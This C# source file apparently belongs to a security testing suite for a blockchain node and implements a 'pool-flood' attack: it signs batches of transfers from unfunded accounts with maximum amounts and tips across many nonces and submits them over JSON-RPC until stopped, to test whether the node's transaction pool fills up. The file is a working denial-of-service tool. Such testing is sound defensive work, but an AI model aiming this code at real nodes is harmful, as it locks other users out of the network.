using Agora.Core.Primitives;
using Agora.Protocol.Balances;
using Agora.Protocol.Transactions;

namespace Agora.Testing.Attacks;

/// <summary>
/// Finding 1: fill the pool for free. Unfunded accounts submit transfers of u64 max rao with a tip of u64 max rao, at
/// their next nonce and at nonces ahead of it, in batches, round after round with fresh accounts. A node that pools
/// what nobody can pay for fills up and refuses everyone else.
/// </summary>
public sealed class PoolFloodAttack : Attack
{
    /// <summary>Unfunded senders per round.</summary>
    public int SendersPerRound { get; init; } = 500;

    /// <summary>Transactions per sender per round: nonces 0 … this − 1.</summary>
    public int NoncesPerSender { get; init; } = 16;

    /// <summary>Transactions per JSON-RPC batch.</summary>
    public int BatchCount { get; init; } = 500;

    /// <inheritdoc />
    public override string Name => "pool-flood";

    /// <inheritdoc />
    public override async Task<AttackReport> RunAsync(AttackTarget target, CancellationToken stop)
    {
        ArgumentNullException.ThrowIfNull(target);
        using var rpc = new RawRpc(target.RpcUrl, TimeSpan.FromSeconds(30));
        var genesis = Hash256.Parse((await rpc.CallAsync("chain_getBlockHash", [0], stop)).GetString()!);
        long sent = 0, accepted = 0, refused = 0, failedPosts = 0;
        var notes = new List<string>();
        using var sink = AttackAccounts.Unfunded(-1, 0);
        for (var round = 0; !stop.IsCancellationRequested; round++)
        {
            var birth = (await rpc.CallAsync("chain_getHeader", [], stop)).GetProperty("number").GetUInt64();
            var encoded = Sign(round, genesis, birth, sink.Account);
            foreach (var batch in encoded.Chunk(BatchCount))
            {
                if (stop.IsCancellationRequested)
                {
                    break;
                }

                try
                {
                    var (yes, no, firstError) = RawRpc.CountBatch(await rpc.PostAsync(RawRpc.SubmitBatch(batch), stop));
                    sent += batch.Length;
                    accepted += yes;
                    refused += no;
                    if (firstError is not null && notes.Count == 0)
                    {
                        notes.Add($"first refusal: {firstError}");
                    }
                }
                catch (RawRpcException e)
                {
                    failedPosts++;
                    if (notes.Count < 2)
                    {
                        notes.Add(e.Message);
                    }
                }
                catch (OperationCanceledException)
                {
                    break;
                }
            }
        }

        return new AttackReport(Name, new Dictionary<string, long>
        {
            ["sent"] = sent,
            ["accepted"] = accepted,
            ["refused"] = refused,
            ["failed_posts"] = failedPosts,
        }, notes);
    }

    private byte[][] Sign(int round, Hash256 genesis, ulong birth, AccountId destination)
    {
        var encoded = new byte[SendersPerRound * NoncesPerSender][];
        Parallel.For(0, SendersPerRound, sender =>
        {
            using var key = AttackAccounts.Unfunded(round, sender);
            for (var nonce = 0; nonce < NoncesPerSender; nonce++)
            {
                var body = new TransactionBody(key.Account, (ulong)nonce, new Era(birth, 4096), new Rao(ulong.MaxValue), new TransferCall(destination, new Rao(ulong.MaxValue)));
                encoded[(sender * NoncesPerSender) + nonce] = SignedTransaction.Sign(body, key, genesis).Encoded;
            }
        });
        return encoded;
    }
}
